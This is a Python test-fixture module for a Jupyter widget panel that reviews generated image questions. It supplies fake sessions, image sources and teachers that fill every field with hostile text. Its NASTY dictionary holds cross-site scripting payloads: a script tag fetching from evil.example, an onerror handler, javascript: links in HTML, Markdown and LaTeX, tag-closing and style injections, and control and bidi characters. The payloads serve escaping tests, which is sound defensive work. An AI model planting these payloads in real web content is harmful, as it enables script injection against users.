"""Prompt sessions for the tests of the panel: on the embedded world, and with a teacher of mischief."""

import json
import random
from collections.abc import Callable
from pathlib import Path

import ipywidgets
from PIL import Image

from dataengine_utils import images, teachers
from dataengine_utils.files import read_lines
from dataengine_utils.images import open_image
from dataengine_utils.ipo import Session
from dataengine_utils.ipo.revision import Case
from dataengine_utils.prompts import base_template
from dataengine_utils.question_types import QUESTION_TYPES
from dataengine_utils.records import Act, ImageObject, ImageRecord, Query, RuleChange, Template, TextBox
from dataengine_utils.teachers import Reply
from dataengine_utils.widgets import PromptPanel
from dataengine_utils.widgets.panel import REVISE

# Each sets `hacked`, asks another machine, or breaks the page where it is taken for anything but text.
NASTY = {
    "script": "<script>window.hacked = 1; fetch('http://evil.example/script')</script>",
    "handler": "<img src='http://evil.example/image.png' onerror='window.hacked = 2'>",
    "link": "<a href='javascript:window.hacked = 3'>press here</a>",
    "attribute": "\"><b>bold</b> '><i onclick='window.hacked = 4'>slanted</i>",
    "escaped": "&lt;b&gt; &amp;amp;",
    "closing": "</bdi></td></table></div><h1>big</h1>",
    "style": "<style>* { display: none }</style>",
    "colours": "\x1b[31mred\x1b[0m\x00\x07",
    "direction": "\u202ethgir ot tfel\u202c \u2066 \u200b",
    "long": "x" * 10_000,
    "markdown": "**bold** [press](javascript:window.hacked=5) ![a](http://evil.example/markdown.png)",
    "latex": "$\\frac{1}{2}$ \\(x^2\\) $$\\href{javascript:window.hacked=6}{y}$$",
}

CHANGE = RuleChange(
    "add", "", "Never use something that is true of the picture as a wrong option.", "two were right"
)


def probe(n: int) -> list[Query]:
    """`n` queries on the embedded world, the question types in turn."""
    ids = random.Random(1).sample(images.load("picturebook").ids(), n)
    names = list(QUESTION_TYPES.values())
    return [Query(f"q{i}", names[i % len(names)], image_id, ()) for i, image_id in enumerate(ids)]


def picturebook_session(
    folder: Path, n: int = 12, who: str = "Ann", incumbent: Template | None = None
) -> Session:
    """A session of the rule teacher, in whose acts it is always noon."""
    source, teacher = images.load("picturebook"), teachers.load("rules")
    start, journal = incumbent or base_template(), folder / "session.jsonl"
    return Session(journal, start, probe(n), source, teacher, who=who, now=lambda: "noon")


def pictures_of(session: Session) -> Callable[[str], Image.Image]:
    """The drawn picture of each of a session's queries."""
    seeds = {query.id: query.image_id for query in session.probe}
    return lambda query_id: open_image(f"picturebook:{seeds[query_id]}")


class OneNastyImage:
    """An image source whose annotations are mischief."""

    root = None

    def __init__(self, nasty: str):
        self._nasty = nasty

    def ids(self):
        return ["1"]

    def record(self, image_id):
        box = (10, 10, 60, 40)
        return ImageRecord(
            image_id,
            "",
            112,
            112,
            objects=(ImageObject(1, self._nasty, box),),
            texts=(TextBox(self._nasty, box),),
            captions=(self._nasty,),
        )


class NastyTeacher:
    """Writes the same text into every field of every reply."""

    name = "nasty"

    def __init__(self, nasty: str):
        self._nasty = nasty

    def can_write(self, record, question_type):
        return True

    def replies(self, requests):
        for request in requests:
            draft = {
                "question": f"{self._nasty} {len(request.template.rules)}",
                "answer": self._nasty,
                "short_answer": self._nasty,
                "options": [self._nasty, "b", "c", "d"],
                "choice": "A",
            }
            yield Reply(request.query.id, json.dumps(draft))


def nasty_session(folder: Path, nasty: str) -> Session:
    """A session in which teacher, annotations, reviewers and proposals all say `nasty`."""
    queries = [Query(f"q{n}", nasty, "1", ()) for n in range(3)]
    session = Session(
        folder / "session.jsonl",
        base_template(),
        queries,
        OneNastyImage(nasty),
        NastyTeacher(nasty),
        who=nasty,
    )
    session.review(session.incumbent.id, "q0", "reject", ("other",), nasty)
    session.who = "Bo"
    session.review(session.incumbent.id, "q0", "accept", (), nasty)
    rule = session.incumbent.rules[0]
    added = RuleChange("add", "", "Be kind.", nasty)
    session.propose(Proposes((RuleChange("replace", rule, nasty, nasty), added)))
    return session


class Proposes:
    """A reviser with fixed changes."""

    requests = 0

    def __init__(self, changes: tuple[RuleChange, ...]):
        self._changes = changes

    def __call__(self, case: Case) -> tuple[RuleChange, ...]:
        return self._changes


def panel_on(session):
    return PromptPanel(session, pictures_of(session))


def acts(folder):
    return [
        (act.kind, act.who, act.verdict, act.reasons, act.text)
        for act in read_lines(folder / "session.jsonl", Act)[1:]
    ]


def press(panel, signs):
    """What the browser sends while somebody types: the whole field, again and again."""
    panel.review.key_box.value += signs


def review_all(panel):
    while panel.review.round.todo:
        press(panel, "a")


def with_candidate(panel, change=CHANGE):
    """The panel after one proposed change was taken and tried."""
    panel.session.propose(Proposes((change,)))
    panel.tabs.selected_index = REVISE
    panel.revision.rows[0].take.click()
    panel.revision.attempt.click()
    return panel


def all_html(widget):
    own = [widget.value] if isinstance(widget, ipywidgets.HTML) else []
    return own + [text for child in getattr(widget, "children", ()) for text in all_html(child)]
